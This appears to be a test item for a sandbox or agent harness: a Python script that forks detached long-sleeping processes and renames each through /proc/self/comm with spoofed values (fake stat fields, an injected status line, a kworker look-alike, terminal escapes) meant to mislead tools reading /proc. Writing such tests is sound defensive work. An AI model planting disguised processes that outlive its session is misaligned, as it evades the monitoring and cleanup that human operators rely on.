# Attack: leaves processes whose names look like the kernel's own words about a process, for whoever reads /proc.
# Expect: exited 0
# Prints: left
# Weak: agent
# Succeeds: left 5
import os
import time

names = [b"x) Z 1 1 1 0", b"a\nGroups:\t0\n", b"kworker/0:0", b"\xff\xfe\x1b[2J", b""]
for name in names:
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        with open("/proc/self/comm", "wb", buffering=0) as file:
            file.write(name or b"\0")
        os.write(writing, b"x")
        os.closerange(0, 100)
        time.sleep(1000)
    os.read(reading, 1)
print("left")
